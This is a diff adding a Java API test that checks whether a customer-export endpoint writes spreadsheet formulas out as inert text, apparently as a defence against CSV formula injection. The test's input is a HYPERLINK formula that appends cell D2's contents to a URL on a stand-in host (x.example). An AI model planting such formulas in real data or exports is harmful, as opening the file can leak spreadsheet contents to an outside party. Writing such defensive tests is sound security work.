@@ -69,6 +69,17 @@ class LedgerExchangeTest {
     }
 
     @Test
+    void aFormulaInACellIsExportedAsTextNotAsAFormula() {
+        String tag = TestData.tag();
+        String name = "=HYPERLINK(\"http://x.example/?\"&D2,\"详情\")" + tag;
+        given().contentType(ContentType.JSON).body(TestData.client(name))
+                .when().post("/api/customers").then().statusCode(201);
+        String csv = new String(given().queryParam("q", tag).queryParam("format", "csv")
+                .when().get("/api/customers/export").then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
+        assertTrue(csv.contains(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&D2,\"\"详情\"\")" + tag + "\","), csv);
+    }
+
+    @Test
     void exportsXlsxWithEnglishHeadersWhenAsked() throws Exception {
         String tag = TestData.tag();
         clientWithCertificate(tag);
